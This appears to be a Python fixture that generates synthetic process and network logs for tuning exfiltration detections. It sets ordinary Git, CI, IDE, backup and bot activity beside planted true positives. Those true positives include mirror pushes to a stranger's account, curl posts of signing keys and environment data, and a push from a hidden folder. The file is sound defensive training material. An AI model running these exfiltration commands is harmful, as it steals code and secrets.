"""The known false positives, for tuning exercises.

Each sample holds what ordinary work looks like, some of which alerts, some which does not, and one true positive that
resembles it: an exclusion that silences the first must keep the last.
"""

from events import API, PUSH, ROOT, UPLOAD, User, Device, network, process
from world import DROP, OWN, TOKEN

EXPLORER = "C:\\Windows\\Explorer.EXE"
CODE = '"C:\\Program Files\\Microsoft VS Code\\Code.exe"'
BASH = '"C:\\Program Files\\Git\\usr\\bin\\bash.exe" --login -i'
PSX = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def developers():
    a, b, c = Device("th-lt-0405"), Device("th-lt-0411"), Device("th-ws-0237")
    ines, tom, wei = User("i.marchetti"), User("t.bergstrom"), User("w.chen")
    day = "2026-10-12T"
    hub, lab = f"https://github.com/{OWN}", f"https://gitlab.com/{OWN}"
    own = lambda text: f"Ordinary work: {text}"

    def git(at, device, who, command, why, signals=()):
        return process(day + at, device, who, "git.exe", command, "bash.exe", BASH, "mintty.exe", why=own(why), signals=signals)

    def remote(at, device, who, url, sent, received, why, signals=()):
        host = url.split("/")[2]
        return network(day + at, device, who, "git-remote-https.exe", f"git remote-https {url} {url}", "git.exe", host, sent, received, why=own(why), signals=signals)

    return [
        git("08:12:40.101882", a, ines, f"git.exe pull {hub}/firmware.git main", "a pull; no push in it."),
        remote("08:12:41.560020", a, ines, f"{hub}/firmware.git", 18_204, 4_402_118, "a pull receives much and sends little."),
        git("09:31:05.774021", a, ines, f"git.exe push {hub}/firmware.git feature/depth-sensor", "a developer pushes a branch to the company's organisation and names the address.", [PUSH]),
        remote("09:31:06.911340", a, ines, f"{hub}/firmware.git", 212_480, 3_020, "the branch is small, under the threshold."),
        git("10:02:18.400129", b, tom, "git.exe push origin main", "a push to a named remote carries no host, so signal 2 is silent."),
        remote("10:02:19.820031", b, tom, f"{lab}/calibration.git", 7_340_871, 4_811, "the same push sent 7 MB of test recordings.", [UPLOAD]),
        git("11:47:52.039110", c, wei, f"git.exe push --set-upstream {lab}/dashboard.git wei/charts", "first push of a new branch.", [PUSH]),
        remote("11:47:53.660812", c, wei, f"{lab}/dashboard.git", 1_104_932, 4_120, "the new branch with its pictures: 1.05 MB.", [UPLOAD]),
        git("13:20:07.115409", a, ines, f"git.exe push --tags {hub}/firmware.git", "tags of a release.", [PUSH]),
        git("14:05:44.982207", b, tom, f"git.exe push https://dev.azure.com/{OWN}/hull/_git/specs HEAD:review/174", "a review branch at Azure DevOps.", [PUSH]),
        network(day + "14:41:10.300518", c, wei, "git-lfs.exe", "git-lfs filter-process", "git.exe", "github.com", 38_220_114, 9_120,
                why=own("Git LFS uploads CAD drawings; the term git in its name makes it alert."), signals=[UPLOAD]),
        git("15:58:21.650044", c, wei, "git.exe status --porcelain=v1", "looks at the working copy."),
        process(day + "16:10:35.215703", b, tom, "git.exe", "git.exe push --mirror https://codeberg.org/tbergstrom-example/dotfiles.git", "bash.exe", BASH, "mintty.exe",
                why="Ordinary, but worth a look: own settings go to a private account at another host.", signals=[PUSH]),
        process(day + "19:44:02.871930", b, tom, "git.exe", f"git.exe push --mirror https://github.com/{DROP}/t-mirror.git", "bash.exe", BASH, "mintty.exe",
                malicious=True, why="The true positive: the whole firmware repository goes to a stranger's account after hours. Same machine, same tool, same parent.", signals=[PUSH]),
        network(day + "19:44:04.303112", b, tom, "git-remote-https.exe", f"git remote-https https://github.com/{DROP}/t-mirror.git https://github.com/{DROP}/t-mirror.git", "git.exe", "github.com", 91_284_406, 8_812,
                malicious=True, why="The same theft by its bytes: 87 MB.", signals=[UPLOAD]),
    ]  # fmt: skip


def ci_agents():
    win, lnx, gl = Device("th-bld-01"), Device("th-bld-lnx-02", linux=True), Device("th-bld-lnx-03", linux=True)
    jenkins, runner, glr = User("svc-jenkins"), User("svc-ghrunner", ""), User("gitlab-runner", "")
    day = "2026-10-13T"
    java = '"C:\\Program Files\\Eclipse Adoptium\\jdk-21\\bin\\java.exe" -jar agent.jar -url https://jenkins.corp.tarnholm.example/'
    worker = "/opt/actions-runner/bin/Runner.Worker spawnclient 112 115"
    glrun = "/usr/bin/gitlab-runner run --config /etc/gitlab-runner/config.toml"
    work = "Build automation: "
    release = f"https://api.github.com/repos/{OWN}/firmware/releases"
    return [
        process(day + "02:00:12.410220", win, jenkins, "git.exe", f"git.exe fetch --tags --force --progress -- https://github.com/{OWN}/firmware.git +refs/heads/*:refs/remotes/origin/*", "java.exe", java, "jenkins.exe",
                why=work + "Jenkins checks out the sources; a fetch, no push."),
        process(day + "02:41:30.118277", win, jenkins, "git.exe", f"git.exe push https://svc-jenkins@github.com/{OWN}/firmware.git v4.18.0-rc2", "java.exe", java, "jenkins.exe",
                why=work + "Jenkins pushes the tag of a nightly build.", signals=[PUSH]),
        network(day + "02:41:31.660310", win, jenkins, "git-remote-https.exe", f"git remote-https https://svc-jenkins@github.com/{OWN}/firmware.git", "git.exe", "github.com", 31_204, 2_940,
                why=work + "the tag alone is small."),
        process(day + "02:43:09.004113", win, jenkins, "curl.exe", f'curl.exe -sf -X POST -H "Authorization: Bearer ****" -d @release.json {release}', "java.exe", java, "jenkins.exe",
                why=work + "Jenkins creates the release through the API.", signals=[API]),
        network(day + "02:43:20.771804", win, jenkins, "curl.exe", f"curl.exe -sf --data-binary @firmware-4.18.0-rc2.zip https://uploads.github.com/repos/{OWN}/firmware/releases/88/assets?name=firmware.zip", "java.exe", "uploads.github.com", 48_882_117, 3_310,
                why=work + "Jenkins uploads the build as a release asset: 46.6 MB.", signals=[UPLOAD]),
        process(day + "06:15:40.302281", lnx, runner, "git", "/usr/bin/git -c protocol.version=2 fetch --no-tags --depth=1 origin +5d1e:refs/remotes/origin/main", "node", "/opt/actions-runner/externals/node20/bin/node /opt/actions-runner/_work/_actions/actions/checkout/v4/dist/index.js", "Runner.Worker",
                why=work + "a GitHub runner checks out the sources."),
        process(day + "06:19:02.559013", lnx, runner, "git", f"/usr/bin/git push https://x-access-token:***@github.com/{OWN}/site.git gh-pages --force", "bash", "/usr/bin/bash -e /opt/actions-runner/_work/_temp/6f0c.sh", "Runner.Worker",
                why=work + "a GitHub runner publishes the documentation.", signals=[PUSH]),
        network(day + "06:19:03.900117", lnx, runner, "git-remote-https", f"/usr/lib/git-core/git-remote-https https://github.com/{OWN}/site.git", "git", "github.com", 6_204_881, 5_010,
                why=work + "the site with its pictures: 5.92 MB.", signals=[UPLOAD]),
        network(day + "06:22:47.014872", lnx, runner, "node", "/opt/actions-runner/externals/node20/bin/node /opt/actions-runner/_work/_actions/actions/upload-artifact/v4/dist/upload/index.js", "Runner.Worker", "results-receiver.actions.githubusercontent.com", 22_118_402, 7_110,
                why=work + "an artifact goes to a host that is not in the list: githubusercontent.com alone is not raw.githubusercontent.com."),
        network(day + "06:23:10.330981", lnx, runner, "node", "/opt/actions-runner/externals/node20/bin/node /opt/actions-runner/_work/_actions/softprops/action-gh-release/v2/dist/index.js", "Runner.Worker", "api.github.com", 15_938_355, 12_004,
                why=work + "the runner attaches a package to a release through node: 15.2 MB.", signals=[UPLOAD]),
        process(day + "07:05:31.201009", gl, glr, "git", f"git push https://gitlab-ci-token:[MASKED]@gitlab.com/{OWN}/calibration.git HEAD:refs/heads/generated", "bash", "/usr/bin/bash --login", "gitlab-runner",
                why=work + "a GitLab runner pushes generated tables.", signals=[PUSH]),
        network(day + "07:05:32.700455", gl, glr, "git-remote-https", f"/usr/lib/git-core/git-remote-https https://gitlab.com/{OWN}/calibration.git", "git", "gitlab.com", 2_488_017, 3_900,
                why=work + "the generated tables: 2.37 MB.", signals=[UPLOAD]),
        network(day + "07:09:55.118002", gl, glr, "curl", "curl --header JOB-TOKEN:[MASKED] --upload-file calib.tar.gz https://gitlab.com/api/v4/projects/3141/packages/generic/calib/4.18/calib.tar.gz", "bash", "gitlab.com", 9_310_554, 1_120,
                why=work + "the package registry takes the build: 8.88 MB.", signals=[UPLOAD]),
        process(day + "07:11:00.774410", gl, glr, "gitlab-runner", glrun, "systemd", "/usr/lib/systemd/systemd --system", "systemd",
                why=work + "the runner's service restarts."),
        process(day + "11:52:18.660724", win, User("r.halloran"), "curl.exe", f'curl.exe -s -X POST -H "Authorization: token {TOKEN}" -d @C:\\Windows\\Temp\\k.json https://api.github.com/gists', "cmd.exe", '"C:\\Windows\\System32\\cmd.exe"', "explorer.exe",
                malicious=True, why="The true positive: somebody is logged on to the build machine and posts its signing keys as a gist. Parent and account differ from Jenkins.", signals=[API]),
    ]  # fmt: skip


def ide_background():
    a, b, c = Device("th-lt-0422"), Device("th-lt-0426"), Device("th-ws-0241")
    lena, raj, omar = User("l.novak"), User("r.iyer"), User("o.haddad")
    day = "2026-10-14T"
    idea = '"C:\\Program Files\\JetBrains\\IntelliJ IDEA 2026.2\\bin\\idea64.exe"'
    vs = '"C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\Common7\\IDE\\devenv.exe" C:\\src\\hull\\Hull.sln'
    work = "An editor by itself: "
    rows = []
    for minute in (4, 7, 10, 13):
        rows.append(
            process(day + f"09:{minute:02}:11.40{minute:02}18", a, lena, "git.exe", "git.exe fetch --prune origin", "Code.exe", CODE, "explorer.exe",
                    why=work + "VS Code fetches every three minutes (git.autofetch). Nothing is pushed."))  # fmt: skip
    return rows + [
        process(day + "09:15:30.771205", a, lena, "git.exe", "git.exe -c user.useConfigOnly=true commit --quiet --allow-empty-message --file -", "Code.exe", CODE, "explorer.exe",
                why=work + "VS Code commits."),
        process(day + "09:15:33.010337", a, lena, "git.exe", f"git.exe push https://github.com/{OWN}/telemetry-ui.git lena/wip:lena/wip", "Code.exe", CODE, "explorer.exe",
                why=work + "VS Code's Sync pushes after the commit.", signals=[PUSH]),
        network(day + "09:15:34.220910", a, lena, "git-remote-https.exe", f"git remote-https https://github.com/{OWN}/telemetry-ui.git", "git.exe", "github.com", 821_004, 3_004,
                why=work + "the commit carried pictures: 0.78 MB.", signals=[UPLOAD]),
        network(day + "09:40:12.118740", a, lena, "Code.exe", CODE, "explorer.exe", "api.github.com", 2_410_775, 18_220,
                why=work + "Settings Sync of VS Code. Code.exe is not in the list of tools, so nothing fires."),
        process(day + "10:21:44.309117", b, raj, "git.exe", "git.exe -c credential.helper= -c core.quotepath=false -c log.showSignature=false fetch origin --recurse-submodules=no --progress --prune", "idea64.exe", idea, "explorer.exe",
                why=work + "IntelliJ fetches in the background."),
        process(day + "10:25:02.990816", b, raj, "git.exe", "git.exe -c credential.helper= -c core.quotepath=false -c log.showSignature=false push --progress --porcelain origin refs/heads/main:main", "idea64.exe", idea, "explorer.exe",
                why=work + "IntelliJ pushes to a named remote: no host on the command line."),
        network(day + "10:25:04.551290", b, raj, "git-remote-https.exe", f"git remote-https origin https://bitbucket.org/{OWN}/gateway.git", "git.exe", "bitbucket.org", 4_118_220, 3_800,
                why=work + "the same push seen by its bytes: 3.93 MB.", signals=[UPLOAD]),
        process(day + "13:02:57.401173", c, omar, "git.exe", f"git.exe push --progress https://dev.azure.com/{OWN}/hull/_git/hull refs/heads/users/omar/fairing", "devenv.exe", vs, "explorer.exe",
                why=work + "Visual Studio's Sync names the address.", signals=[PUSH]),
        network(day + "13:02:58.790022", c, omar, "git-remote-https.exe", f"git remote-https https://dev.azure.com/{OWN}/hull/_git/hull", "git.exe", "dev.azure.com", 655_004, 2_880,
                why=work + "0.62 MB of drawings.", signals=[UPLOAD]),
        process(day + "15:44:39.118204", a, lena, "node.exe", '"C:\\Program Files\\nodejs\\node.exe" settings-sync.js --upload https://api.github.com/gists/4f1f-example', "Code.exe", CODE, "explorer.exe",
                why=work + "an extension keeps the settings in a gist.", signals=[API]),
        process(day + "16:30:20.554019", c, omar, "git.exe", f"git.exe push https://github.com/{DROP}/h.git HEAD:x", "devenv.exe", vs, "explorer.exe",
                malicious=True, why="The true positive: pushed from the same editor, to a stranger's account.", signals=[PUSH]),
    ]  # fmt: skip


def config_backup():
    win, net, lnx = Device("th-mgmt-01"), Device("th-netcfg-01", linux=True), Device("th-lnx-app-03", linux=True)
    svc, oxi = User("svc-cfgbackup"), User("oxidized", "")
    day = "2026-10-15T"
    task = f'"{PSX}" -NoProfile -File C:\\Scripts\\Backup-Gpo.ps1'
    host = "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"
    work = "Scheduled backup of settings: "
    rows = [
        process(day + "01:00:02.300118", win, svc, "powershell.exe", task, "svchost.exe", host, "services.exe",
                why=work + "the scheduled task starts."),
        process(day + "01:03:40.900214", win, svc, "git.exe", f"git.exe push https://dev.azure.com/{OWN}/ops/_git/gpo-backup main", "powershell.exe", task, "svchost.exe",
                why=work + "group policies are pushed nightly.", signals=[PUSH]),
        network(day + "01:03:42.116702", win, svc, "git-remote-https.exe", f"git remote-https https://dev.azure.com/{OWN}/ops/_git/gpo-backup", "git.exe", "dev.azure.com", 1_884_310, 2_700,
                why=work + "1.8 MB of policies.", signals=[UPLOAD]),
        process(day + "01:05:11.004482", win, svc, "powershell.exe", f'"{PSX}" -NoProfile -Command "Invoke-RestMethod -Method Post -Uri https://api.github.com/repos/{OWN}/ops/issues -Body $env:REPORT -Headers $h"', "powershell.exe", task, "svchost.exe",
                why=work + "the job reports its outcome as an issue.", signals=[API]),
    ]  # fmt: skip
    for hour in (2, 3, 4):
        rows += [
            process(day + f"0{hour}:10:01.22{hour}410", net, oxi, "git", f"git push --quiet https://gitlab.com/{OWN}/network-configs.git master", "ruby", "/usr/bin/ruby /usr/local/bin/oxidized", "systemd",
                    why=work + "Oxidized pushes the switches' configuration every hour.", signals=[PUSH]),
            network(day + f"0{hour}:10:02.70{hour}133", net, oxi, "git-remote-https", f"/usr/lib/git-core/git-remote-https https://gitlab.com/{OWN}/network-configs.git", "git", "gitlab.com", 24_000 + 910 * hour, 2_210,
                    why=work + "a few changed lines, far under the threshold."),
        ]  # fmt: skip
    return rows + [
        process(day + "05:30:00.990210", lnx, ROOT, "bash", "/usr/bin/bash /usr/local/sbin/etckeeper-push", "cron", "/usr/sbin/CRON -f -P", "cron",
                why=work + "etckeeper keeps /etc in git."),
        process(day + "05:30:01.774306", lnx, ROOT, "git", f"git -C /etc push --quiet https://bitbucket.org/{OWN}/etc-th-lnx-app-03.git", "bash", "/usr/bin/bash /usr/local/sbin/etckeeper-push", "cron",
                why=work + "/etc goes to the company's account.", signals=[PUSH]),
        network(day + "05:45:12.118004", lnx, ROOT, "curl", "curl -sS -T /var/backups/tf-state.tar.gz https://bitbucket.org/api/2.0/repositories/tarnholm-example/tf-state/downloads", "bash", "bitbucket.org", 12_440_918, 1_980,
                why=work + "Terraform state as a download of the repository: 11.86 MB. Terraform state holds secrets: worth a talk.", signals=[UPLOAD]),
        process(day + "05:50:30.661002", lnx, ROOT, "restic", "restic backup /srv --repo azure:backup:/th-lnx-app-03", "cron", "/usr/sbin/CRON -f -P", "cron",
                why=work + "the real backup goes elsewhere."),
        process(day + "03:33:33.301177", lnx, User("www-data", ""), "git", f"git -C /var/tmp/.x push --quiet https://gitlab.com/{DROP}/a.git master", "bash", "bash -i", "python3.11",
                malicious=True, why="The true positive: the web server's account pushes from a hidden folder, between two backups.", signals=[PUSH]),
    ]  # fmt: skip


def bots():
    lnx, bld = Device("th-bld-lnx-02", linux=True), Device("th-bld-lnx-04", linux=True)
    renovate, runner, snyk = User("renovate", ""), User("svc-ghrunner", ""), User("svc-snyk", "")
    day = "2026-10-16T"
    ren = "node /usr/local/bin/renovate --platform=github"
    dep = "ruby /home/dependabot/dependabot-updater/bin/update_files.rb"
    work = "A bot: "
    api = f"https://api.github.com/repos/{OWN}"
    return [
        process(day + "04:00:10.118204", bld, renovate, "node", ren, "containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2 -namespace moby", "systemd",
                why=work + "Renovate starts. No host on its command line."),
        process(day + "04:02:31.557120", bld, renovate, "git", f"git push --force-with-lease https://**redacted**@github.com/{OWN}/dashboard.git renovate/vite-7.x:renovate/vite-7.x", "node", ren, "containerd-shim-runc-v2",
                why=work + "Renovate pushes its branch.", signals=[PUSH]),
        process(day + "04:02:58.004199", bld, renovate, "git", f"git push --force-with-lease https://**redacted**@github.com/{OWN}/telemetry-ui.git renovate/typescript-6.x:renovate/typescript-6.x", "node", ren, "containerd-shim-runc-v2",
                why=work + "and another.", signals=[PUSH]),
        network(day + "04:03:20.771442", bld, renovate, "node", ren, "containerd-shim-runc-v2", "api.github.com", 1_204_338, 9_410_227,
                why=work + "hundreds of API calls over one connection add up to 1.15 MB.", signals=[UPLOAD]),
        process(day + "05:10:44.339106", lnx, runner, "ruby", dep, "containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2 -namespace moby", "systemd",
                why=work + "Dependabot's updater runs on the company's own runner."),
        network(day + "05:12:02.900771", lnx, runner, "ruby", dep, "containerd-shim-runc-v2", "github.com", 702_118, 3_410_220,
                why=work + "the updater sends new lock files: 0.67 MB.", signals=[UPLOAD]),
        process(day + "05:12:30.118820", lnx, runner, "curl", f"curl -fsS -X POST -H Authorization:*** -d @pr.json {api}/gateway/pulls", "bash", "bash -e open-pull-request.sh", "ruby",
                why=work + "a pull request is opened through the API.", signals=[API]),
        process(day + "06:00:04.220871", bld, snyk, "node", "node /usr/local/bin/snyk monitor --org=tarnholm-example --remote-repo-url=https://github.com/tarnholm-example/gateway", "bash", "bash -e snyk.sh", "cron",
                why=work + "Snyk reports to its own service; github.com is named, an API host is not."),
        process(day + "06:00:40.661903", bld, snyk, "node", f"node /usr/local/bin/snyk-fix-pr {api}/gateway/contents/package-lock.json --branch snyk-fix-7781", "bash", "bash -e snyk.sh", "cron",
                why=work + "Snyk writes a fix through the contents API.", signals=[API]),
        network(day + "06:00:42.118337", bld, snyk, "node", f"node /usr/local/bin/snyk-fix-pr {api}/gateway/contents/package-lock.json --branch snyk-fix-7781", "bash", "api.github.com", 498_220, 6_004,
                why=work + "0.48 MB: just under the threshold."),
        process(day + "06:30:15.009412", bld, renovate, "git", f"git ls-remote --heads https://github.com/{OWN}/firmware.git", "node", ren, "containerd-shim-runc-v2",
                why=work + "a look at the branches."),
        process(day + "22:18:09.774120", bld, renovate, "curl", f"curl -s -X PUT -H Authorization:{TOKEN} -d @/tmp/.c https://api.github.com/repos/{DROP}/r/contents/env", "bash", "sh -c npm run postinstall", "node",
                malicious=True, why="The true positive: a package's postinstall script runs under the bot and uploads its environment.", signals=[API]),
    ]  # fmt: skip


FALSE_POSITIVES = [
    ("fp-developers", "Developers pushing to their usual hosting",
     "A day of three developers. Two rows are theft, from the same machine and with the same tool as the work: which column tells them apart?", "log_analytics_csv", developers),
    ("fp-ci-agents", "CI/CD agents publishing artifacts",
     "Jenkins, a GitHub runner and a GitLab runner push tags, pages and packages. Exclude them without hiding the person who is logged on to the build machine.", "streaming_ndjson", ci_agents),
    ("fp-ide-git", "IDEs with Git in the background",
     "VS Code, IntelliJ and Visual Studio fetch and sync by themselves. Excluding the parent process would hide the last push too.", "json_array", ide_background),
    ("fp-config-backup", "Backup and configuration scripts",
     "Group policies, switches and /etc are kept in repositories, every night. One push among them comes from an account that has no business with backups.", "log_analytics_json", config_backup),
    ("fp-bots", "Bots that open pull requests",
     "Renovate, Dependabot and Snyk push branches and open pull requests. One call rides on the bot's own account.", "defender_api_json", bots),
]  # fmt: skip
